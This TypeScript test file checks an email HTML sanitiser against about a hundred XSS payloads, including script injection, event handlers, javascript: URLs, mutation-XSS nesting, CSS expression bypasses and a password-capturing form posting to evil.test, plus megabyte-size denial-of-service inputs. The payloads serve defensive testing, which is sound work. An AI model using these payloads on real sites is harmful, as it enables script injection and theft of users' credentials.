import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { sanitiseMailHtml } from './sanitise-html.ts'
import { scanHtml } from './scan-html.ts'

const sanitise = (html: string) =>
  sanitiseMailHtml(html, { cidUrl: (id) => (id === 'logo@x' ? '/files/logo' : undefined) })

const any = /^[^<>]*$/
const allowed: Record<string, RegExp> = {
  ...Object.fromEntries(
    'align alt bgcolor border cellpadding cellspacing color colspan dir face height rel rowspan size target title width'
      .split(' ')
      .map((name) => [name, any]),
  ),
  href: /^(https?:\/\/|mailto:|tel:)/i,
  src: /^(\/files\/|data:image\/(png|gif|jpeg|webp);base64,)/,
  'data-remote-src': /^https?:\/\//i,
  'data-remote-background': /^https?:\/\//i,
  style: /^(?!.*(url|expression|import|javascript|position|behavior|binding|\\|@))[^<>]*$/i,
}

/** Everything that may stand in the result; whatever else is there fails. */
function expectHarmless(html: string): void {
  for (const token of scanHtml(html)) {
    if (token.kind !== 'open') continue
    expect([
      'a',
      'b',
      'blockquote',
      'br',
      'center',
      'div',
      'font',
      'h1',
      'hr',
      'i',
      'img',
      'li',
      'ol',
      'p',
      'span',
      'strong',
      'table',
      'tbody',
      'td',
      'th',
      'tr',
      'u',
      'ul',
      'pre',
      'q',
      'em',
    ]).toContain(token.name)
    // Attributes that we write stand in double quotes.
    for (const [, name = '', value = ''] of html
      .slice(token.start, token.end)
      .matchAll(/\s([^\s=/>]+)(?:="([^"]*)")?/g)) {
      expect(allowed[name], name).toBeDefined()
      expect(value).toMatch(allowed[name] ?? /^$/)
    }
  }
}

const attacks = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/onload=alert(2)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href=" \x01javascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="/settings/delete">x</a>',
  '<a href="#top" name="x" id="y" class="z">x</a>',
  '<a href="\\\\evil.test">x</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="data:text/html,x">',
  '<img src="/api/v1/logout">',
  '<img data-remote-src="javascript:alert(1)">',
  '<div data-remote-background="javascript:alert(1)">x</div>',
  '<img srcset="javascript:alert(1) 1x">',
  '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="width:e\\78pression(alert(1))">x</div>',
  '<div style="width:exp/**/ression(alert(1))">x</div>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<div style="-moz-binding:url(x.xml#y)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  '<div style="color:red;@import url(x)">x</div>',
  '<div style="background:image-set(\'https://evil.test/x\' 1x)">x</div>',
  '<div style="color:red\'};*{color:blue">x</div>',
  '<div style="margin-left:-9999px;text-indent:-10em">x</div>',
  '<div style="width:calc(1px); color:var(--secret)">x</div>',
  '<style>@import url(https://evil.test/x.css); body{background:url(https://evil.test)}</style>',
  '<style><!--</style><img src=x onerror=alert(1)>--></style>',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<base href="https://evil.test/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta http-equiv="Content-Security-Policy" content="x">',
  '<form action=https://evil.test><input name=password><button formaction=javascript:alert(1)>x</button></form>',
  '<input type=image src=https://evil.test/x onerror=alert(1)>',
  '<isindex action=javascript:alert(1)>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,x">',
  '<applet code=x>',
  '<frameset onload=alert(1)><frame src=javascript:alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<video poster=javascript:alert(1) src=https://evil.test/v>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1) background="javascript:alert(1)">',
  '<table background="javascript:alert(1)"><td>x</table>',
  '<bgsound src=javascript:alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>&lt;script&gt;alert(1)&lt;/script&gt;</select>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><img src=x onerror=alert(1)></template>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x onclick=alert(1)>x</x>',
  '<img title="`><img src=x onerror=alert(1)>">',
  '<img alt="\'><script>alert(1)</script>">',
  '<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<a href="https://x.test" onmouseover="alert(1)" style="font-size:999px">x</a>',
  '<a href="https://x.test"target=_self rel=opener>x</a>',
  '<img src=x:x onerror=alert(1)//',
  '<div id=location name=cookie>x</div>',
  '<image src=x onerror=alert(1)>',
  '<x/onclick=alert(1)>x',
  '<a href=`javascript:alert(1)`>x</a>',
  '<img """><script>alert(1)</script>">',
  '<<script>alert(1);//<</script>',
  '<img src=x\x00 onerror=alert(1)>',
  '<\x00script>alert(1)</script>',
  `${'<div>'.repeat(600)}<svg><style><img src=x onerror=alert(1)></style></svg>`,
  '<a href="https://x.test/&quot;onclick=alert(1)//">x</a>',
  '<font face="x" onclick=alert(1) color="red&quot; onclick=alert(1)">x</font>',
]

describe('attacks', () => {
  test.each(attacks)('%s', (html) => expectHarmless(sanitise(html).html))

  test('in any combination', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...attacks, '"', "'", '>', '</', '<p>', '<table><tr><td>', '&quot;', '`'), {
          maxLength: 8,
        }),
        (parts) => {
          const { html } = sanitise(parts.join(''))
          expectHarmless(html)
          // A second reading, as by a browser, finds nothing new.
          expectHarmless(sanitise(html).html)
        },
      ),
      { numRuns: 300 },
    )
  })
})

describe('layout', () => {
  test('keeps tables, fonts and inline styles', () => {
    const html =
      '<table width="600" cellpadding="0" bgcolor="#eee" ' +
      'style="border-collapse:collapse;width:600px"><tbody><tr><td align="center" style="font-family:\'Segoe ' +
      'UI\',Arial;color:rgb(1,2,3);padding:4px 8px">' +
      '<font color="red" face="Arial" size="2"><b>Hi</b></font></td></tr></tbody></table>' +
      '<ul><li>a</li></ul><blockquote style="margin:0 0 0 .8ex;border-left:1px #ccc solid">q</blockquote>'
    expect(sanitise(html).html).toBe(html)
  })

  test('links open outside, and know nothing of us', () => {
    expect(sanitise('<a href="https://x.test/a?b=1&amp;c=2" target="_top">x</a>').html).toBe(
      '<a href="https://x.test/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    )
    expect(sanitise('<a href="//x.test">x</a><a href="mailto:a@x.test">y</a><a href="/x">z</a>').html).toMatch(
      /"https:\/\/x\.test".*"mailto:a@x\.test".*<a>z<\/a>/,
    )
  })
})

describe('images', () => {
  test('of the mail itself are shown', () => {
    expect(
      sanitise('<img src="cid:logo@x" width="10"><img src="CID:logo%40x"><img src="cid:gone" alt="gone">'),
    ).toEqual({
      html: '<img width="10" src="/files/logo" /><img src="/files/logo" /><img alt="gone" />',
      remoteImages: 0,
    })
    expect(sanitise('<img src="data:image/png;base64,iVBO Rw==">').html).toBe('<img />')
    expect(sanitise('<img src="data:image/png;base64,iVBORw==">').html).toBe(
      '<img src="data:image/png;base64,iVBORw==" />',
    )
  })

  test('from elsewhere wait until they are asked for', () => {
    const html =
      '<img src="https://x.test/a.png" srcset="https://x.test/b.png 2x"><img srcset="//x.test/c.png 1x, ' +
      '//x.test/d.png 2x"><td background="http://x.test/e.png">x</td>' +
      '<div style="color:red;background-image: url(\'https://x.test/f.png\')">y</div><div style="background:#fff ' +
      'url(https://x.test/g.png) no-repeat">z</div>'
    const result = sanitise(html)
    expect(result.remoteImages).toBe(5)
    expect(result.html).not.toMatch(/[^-]src=|srcset|url\(|[^-]background=/)
    for (const name of ['a', 'c', 'e', 'f', 'g'])
      expect(result.html).toMatch(new RegExp(`data-remote-(src|background)="https?://x.test/${name}.png"`))
    expect(result.html).toContain('style="color:red"')
  })
})

test.each([
  ['open tags', '<div>'.repeat(200_000)],
  ['hidden open tags', `<template>${'<div>'.repeat(200_000)}`],
  ['open paragraphs', '<p>'.repeat(300_000)],
  ['cells', '<td>'.repeat(250_000)],
  ['tables', '<table><tr><td>'.repeat(66_000)],
  ['half tags', '<a'.repeat(500_000)],
  ['styles', `<p style="${'a:b;'.repeat(250_000)}">`],
  ['comments in a style', `<p style="${'/*'.repeat(500_000)}">`],
  ['attributes', `<p ${'a=b '.repeat(250_000)}>`],
  ['ampersands', '&'.repeat(1_000_000)],
  ['links', '<a href="https://x.test">x'.repeat(38_000)],
  ['data', `<img src="data:image/png;base64,${'A'.repeat(1_000_000)}!">`],
])('a megabyte of %s takes under two seconds', (_, html) => {
  const from = process.cpuUsage()
  sanitise(html)
  expect(process.cpuUsage(from).user).toBeLessThan(2_000_000)
})
